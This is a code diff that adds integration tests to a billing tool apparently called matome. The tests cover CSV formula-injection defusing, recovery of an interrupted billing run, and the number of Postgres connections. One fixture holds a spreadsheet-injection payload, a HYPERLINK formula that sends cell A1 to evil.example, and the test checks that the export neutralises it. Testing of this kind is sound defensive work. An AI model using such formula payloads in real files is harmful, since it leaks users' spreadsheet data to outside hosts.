@@ -17,9 +17,12 @@ import os
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 
+from matome.engine import Engine
+from tests.conftest import TEST_ITERATIONS
 from tests.integration.logs import (
     BY_NUMBER,
     BY_PHONE,
@@ -1153,3 +1156,129 @@ def test_console_script_runs_a_log_and_prints_the_bill(tmp_path: Path) -> None:
     document = json.loads(bill.stdout)
     assert [(r["provider"], r["amount"]) for r in document["rows"]] == [("A", 525), ("B", 600)]
     assert document["subtotal"] == 1125
+
+
+# ---------------------------------------------------------------------------------------------
+# CSV that cannot hurt its reader (INTERCHANGE.md, contract 3, "Output that cannot hurt its
+# reader")
+
+#: Names a provider chooses, and a reason an operator types: each begins as a spreadsheet
+#: formula would.
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+FORMULA_SERVICE = "@SUM(1+1)"
+FORMULA_REASON = "-2+3 refunded"
+
+
+def _csv(matome: Matome, *args: str) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    code, out, err = matome.text(*args, "--csv")
+    assert code == 0, err
+    return list(csv.DictReader(io.StringIO(out)))
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(matome: Matome) -> None:
+    """Contract 3: a cell beginning ``=``, ``+``, ``-`` (when not a number), ``@``, tab or
+    carriage return is prefixed with ``'``; whole yen, negative ones included, stay numbers."""
+    matome.run(
+        provider("X", FORMULA_NAME),
+        service("X", "svc", FORMULA_SERVICE, "monthly", 700),
+        line(),
+        passport(),
+        buy(jst("01-15"), "svc", provider="X", name="s"),
+        issue(jst("02-01", "09:00:00"), "2024-01"),
+        {**refund(jst("02-10"), "s", 100), "reason": FORMULA_REASON},
+    )
+    (charge,) = _csv(matome, "bill", LINE, "2024-01")
+    assert charge["amount"] == "700"
+    refunds = [r for r in _csv(matome, "bill", LINE, "2024-02") if r["kind"] == "refund"]
+    assert [(r["amount"], r["reason"]) for r in refunds] == [("-100", "'" + FORMULA_REASON)]
+    (row,) = _csv(matome, "statement", LINE, "2024-01")
+    assert row["provider_name"] == "'" + FORMULA_NAME
+    assert row["service_name"] == "'" + FORMULA_SERVICE
+    (contact,) = _csv(matome, "contacts", LINE)
+    assert contact["name"] == "'" + FORMULA_NAME
+    # The JSON documents carry the names as given: only the spreadsheet's format is defused.
+    assert matome.doc("statement", LINE, "2024-01")["rows"][0]["provider_name"] == FORMULA_NAME
+
+
+# ---------------------------------------------------------------------------------------------
+# A bill reads as issued only once it is (rules §7, docs/reliability.md "Crashes")
+
+
+class _Killed(BaseException):
+    """Stands for a SIGKILL in the middle of the billing run: nothing after it runs."""
+
+
+def test_after_a_billing_run_cut_short_only_the_recorded_bills_read_as_issued(
+    matome: Matome, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A kill between two bills of the run leaves the month closed, one bill issued and the
+    other not.  Until the run is completed, the other reads as a preview (JSON and table),
+    never ``issued``; once completed, both are issued with the figures they read before."""
+    from matome import billing
+    from matome.application.eventstore import EventStoreApplication
+    from matome.events.bill import BillIssued
+
+    matome.run(*_two_lines_buying())
+    record = EventStoreApplication.record
+    recorded: list[str] = []
+
+    def killed_after_the_first_bill(self: Any, events: Any, *args: Any, **kwargs: Any) -> None:
+        bills = [e for e in events if isinstance(e, BillIssued)]
+        if bills and recorded:
+            raise _Killed
+        record(self, events, *args, **kwargs)
+        recorded.extend(str(b.customer_id) for b in bills)
+
+    with monkeypatch.context() as m:
+        m.setattr(billing, "_CHUNK", 1)
+        m.setattr(EventStoreApplication, "record", killed_after_the_first_bill)
+        with pytest.raises(_Killed):
+            matome.run(issue(jst("02-01", "09:00:00"), "2024-01"))
+    assert recorded == [LINE]
+    assert matome.bill(LINE, "2024-01")["status"] == "issued"
+    cut = matome.bill(LINE2, "2024-01")
+    assert (cut["status"], cut["subtotal"]) == ("preview", 525)
+    code, text, _ = matome.text("bill", LINE2, "2024-01")
+    assert code == 0
+    assert "[PREVIEW]" in text.splitlines()[0]
+    assert "[issued]" not in text
+    # Completing the run (what ``matome run --resume`` does first) issues it as it read.
+    engine = Engine.open(matome.db, hash_iterations=TEST_ITERATIONS, create=False)
+    try:
+        assert engine.complete_billing() == 1
+    finally:
+        engine.close()
+    assert matome.bill(LINE2, "2024-01") == {**cut, "status": "issued"}
+
+
+# ---------------------------------------------------------------------------------------------
+# One connection for one reader (docs/reliability.md, "Output and settings that cannot hurt")
+
+
+@pytest.mark.postgres
+def test_one_matome_bill_on_postgres_opens_one_connection(
+    pg_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """``matome bill`` opened three connections (two pools, one of which grew before its
+    first connection was made): the views now share the events' pool, opened with its one
+    connection ready, and a catch-up reads the events in the views' own transaction."""
+    import psycopg
+
+    matome = Matome(pg_url, tmp_path, capsys)
+    matome.run(*_two_lines_buying(), issue(jst("02-01", "09:00:00"), "2024-01"))
+    connect = psycopg.Connection.connect.__func__  # type: ignore[attr-defined]
+    opened: list[str] = []
+
+    def counted(cls: Any, *args: Any, **kwargs: Any) -> Any:
+        opened.append(str(kwargs.get("dbname") or args))
+        return connect(cls, *args, **kwargs)
+
+    monkeypatch.setattr(psycopg.Connection, "connect", classmethod(counted))
+    for reader in (("rebuild",), ("bill", LINE, "2024-01"), ("bill", LINE2, "2024-02")):
+        opened.clear()
+        code, _ = matome.call(*reader)
+        assert code == 0
+        assert len(opened) == 1, (reader, opened)
